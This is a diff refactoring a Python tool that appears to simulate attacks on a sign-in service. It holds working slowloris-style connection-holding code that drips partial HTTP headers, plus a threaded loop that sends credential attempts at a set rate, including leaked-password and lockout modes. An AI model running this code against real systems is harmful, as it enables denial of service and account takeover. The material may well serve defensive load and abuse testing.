@@ -15,12 +15,13 @@ import secrets
 import socket
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
 from dataclasses import dataclass
+from functools import partial
 from pathlib import Path
-from urllib.parse import urlsplit
+from urllib.parse import SplitResult, urlsplit
 
 import httpx
 
@@ -60,14 +61,21 @@ def main() -> None:
         accounts=tuple((one["username"], one["password"]) for one in listed if not one.get("monitor")),
     )
     if asked.kind == "slow":
-        _hold(aim, int(asked.per_s), asked.seconds)
+        at = urlsplit(aim.provider)
+        head = f"POST /sign-in/ HTTP/1.1\r\nHost: {at.netloc}\r\n"
+        hold(at, head.encode(), b"X-More: 1\r\n", int(asked.per_s), asked.seconds)
         return
     tries = {"lockout": _lockouts, "callback": _callbacks, "leaked": _leaked}[asked.kind](aim)
-    until, at = time.monotonic() + asked.seconds, time.monotonic()
+    keep_trying((partial(_attempt, aim, *one) for one in tries), asked.per_s, asked.seconds)
+
+
+def keep_trying(attempts: Iterator[Callable[[], None]], per_s: float, seconds: float) -> None:
+    """So many attempts a second, side by side, until the time is over."""
+    until, at = time.monotonic() + seconds, time.monotonic()
     with ThreadPoolExecutor(_AT_ONCE) as pool:
         while time.monotonic() < until:
-            pool.submit(_attempt, aim, *next(tries))
-            at += 1 / asked.per_s
+            pool.submit(next(attempts))
+            at += 1 / per_s
             threading.Event().wait(max(0.0, at - time.monotonic()))
 
 
@@ -100,21 +108,20 @@ def _attempt(aim: Aim, name: str, password: str, source: str) -> None:
         client.post(f"{aim.provider}/sign-in/", data=typed)
 
 
-def _hold(aim: Aim, count: int, seconds: float) -> None:
-    """A header every two seconds on each connection; one that was closed is opened again."""
-    at = urlsplit(aim.provider)
+def hold(at: SplitResult, head: bytes, drop: bytes, count: int, seconds: float) -> None:
+    """So many connections, each with a head and then a drop every two seconds; a closed one is opened again."""
     held: list[socket.socket] = []
     until = time.monotonic() + seconds
     while time.monotonic() < until:
         for connection in list(held):
             try:
-                connection.sendall(b"X-More: 1\r\n")
+                connection.sendall(drop)
             except OSError:
                 held.remove(connection)
         with suppress(OSError):
             while len(held) < count:
                 connection = socket.create_connection((at.hostname or "", at.port or 80), timeout=2)
-                connection.sendall(b"POST /sign-in/ HTTP/1.1\r\nHost: " + at.netloc.encode() + b"\r\n")
+                connection.sendall(head)
                 held.append(connection)
         threading.Event().wait(_DRIP_S)
 
